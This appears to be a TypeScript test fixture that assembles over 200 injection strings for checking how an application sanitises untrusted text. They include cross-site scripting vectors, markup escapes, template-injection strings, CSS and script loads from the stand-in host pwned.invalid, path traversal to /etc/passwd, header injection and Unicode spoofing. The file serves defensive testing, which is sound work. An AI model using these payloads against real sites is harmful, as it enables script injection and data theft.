/**
 * What strangers put where words are expected, hoping that it becomes markup, script, a style or an address. Whatever comes of one
 * calls `pwned`, makes an element or an attribute of that name, or asks a server of that name.
 */

const CALLS = ['pwned()', 'alert(`pwned`)', "import('//pwned.invalid/x.js')"];

/** Elements that run something by themselves. */
const ELEMENTS = [
  '<script>$</script>',
  '<script src=//pwned.invalid/x.js></script>',
  '<script type=module>$</script>',
  '<img src=x onerror=$>',
  '<img src=x onerror="$" pwned>',
  '<image href=x onerror=$>',
  '<svg onload=$>',
  '<svg><script>$</script></svg>',
  '<svg><animate onbegin=$ attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:$"><text>x</text></a></svg>',
  '<math><mtext><img src=x onerror=$></mtext></math>',
  '<iframe src="javascript:$">',
  '<iframe srcdoc="<script>parent.$</script>">',
  '<object data="javascript:$">',
  '<embed src="javascript:$">',
  '<body onload=$>',
  '<input autofocus onfocus=$>',
  '<select autofocus onfocus=$>',
  '<video><source onerror=$></video>',
  '<video poster=x onerror=$ src=x>',
  '<audio src=x onerror=$>',
  '<details open ontoggle=$>x</details>',
  '<marquee onstart=$>x</marquee>',
  '<a href="javascript:$" pwned>x</a>',
  '<form action="javascript:$"><button pwned>x</button></form>',
  '<button formaction="javascript:$" pwned>x',
  '<isindex action="javascript:$">',
  '<x onclick=$ pwned>x</x>',
  '<p style="animation:x" onanimationstart=$ pwned>',
  '<div onpointerover=$ pwned>x</div>',
];

/** Ways out of where the words may stand. */
const ESCAPES = [
  '">',
  "'>",
  '`}',
  '-->',
  ']]>',
  '</title>',
  '</textarea>',
  '</style>',
  '</script>',
  '</template>',
  '<!--><',
];

/** Without any call: the element itself is what must not be. */
const SILENT = [
  '<pwned-element></pwned-element>',
  '<b pwned>x</b>',
  '<video-room pwned server=//pwned.invalid></video-room>',
  '<vr-tile pwned></vr-tile>',
  '<slot name=pwned></slot>',
  '<template shadowrootmode=open><b pwned>x</b></template>',
  '<base href=//pwned.invalid/>',
  '<meta http-equiv=refresh content="0;url=//pwned.invalid/">',
  '<link rel=stylesheet href=//pwned.invalid/x.css>',
  '<link rel=prefetch href=//pwned.invalid/x>',
  '<style>*{background:url(//pwned.invalid/x)}</style>',
  '<style>@import "//pwned.invalid/x.css";</style>',
  '<div style="background:url(//pwned.invalid/x)" pwned>x</div>',
  '<noscript><p title="</noscript><img src=x onerror=pwned()>">',
  '<plaintext pwned>',
  '<xmp pwned>',
  '<textarea pwned>',
  '<!-- pwned',
  '<![CDATA[<b pwned>]]>',
  '<?pwned?>',
  '</div></main></body><b pwned>',
];

/** Templates, addresses, styles and names that mean something to programs. */
const WORDS = [
  ...[
    '${pwned()}',
    '{{constructor.constructor("pwned()")()}}',
    '#{pwned()}',
    '<%= pwned() %>',
    '{{7*7}}',
    '?lit$1234567$',
    '<!--?lit$pwned$-->',
    '{{lit-1}}',
  ],
  ...[
    'javascript:pwned()',
    'JaVaScRiPt:pwned()',
    'java\tscript:pwned()',
    'data:text/html,<script>pwned()</script>',
    'vbscript:pwned()',
    '//pwned.invalid/x',
  ],
  ...[
    'http://pwned.invalid/"onmouseover="pwned()',
    'https://pwned.invalid/<b pwned>',
    'https://pwned:pwned@pwned.invalid/',
    'https://pwned.invalid/\u202Egpj.exe',
    'http://javascript:pwned()',
  ],
  ...[
    ');background:url(//pwned.invalid/x',
    'red;}*{background:url(//pwned.invalid/y)}',
    'expression(pwned())',
    '</style><b pwned>',
    '\\3c b pwned\\3e ',
  ],
  ...[
    '__proto__',
    'constructor',
    'prototype',
    'toString',
    'hasOwnProperty',
    'innerHTML',
    'onerror',
    '%s%n%x',
    '../../../etc/passwd',
    'null',
    'undefined',
    'NaN',
  ],
  ...[
    '&lt;b pwned&gt;',
    '&#60;b pwned&#62;',
    '\\u003cb pwned\\u003e',
    '%3Cb pwned%3E',
    '＜b pwned＞',
    '<\u0000b pwned>',
    '<b\u00a0pwned>',
    '\u2028pwned()//',
    '<b/pwned>',
    '<<b pwned>>',
  ],
  ...[
    '\u001b[31mpwned\u001b[0m',
    '\u001b]0;pwned\u0007',
    'pwned\r\n{"level":"error","msg":"pwned"}',
    'pwned\nSet-Cookie: pwned=1',
    '\u0008\u0008pwned',
    '\u009b31mpwned',
  ],
  ...[
    '\u202Epwned\u202C',
    '\u2066pwned\u2069',
    'p\u200Bw\u200Cn\u200De\uFEFFd',
    'pw\u00ADned',
    '\u200Fpwned',
    '\u{E0070}\u{E0077}pwned',
    'p\u0300\u0301\u0302\u0303wned',
    '\uD800pwned',
    'pwned\uFFFF',
    '\uE000pwned',
  ],
];

/** Each once, at least 200. Not one is longer than a name may be before it is cut, or the cut would be what is tested. */
export const PAYLOADS: readonly string[] = [
  ...new Set([
    ...ELEMENTS.flatMap((element) => CALLS.map((call) => element.replace('$', call))),
    ...ESCAPES.flatMap((escape) =>
      ['<img src=x onerror=pwned()>', '<b pwned>x', '<svg onload=pwned()>', ' pwned x='].map(
        (way) => `${escape}${way}`,
      ),
    ),
    ...SILENT,
    ...WORDS,
  ]),
];
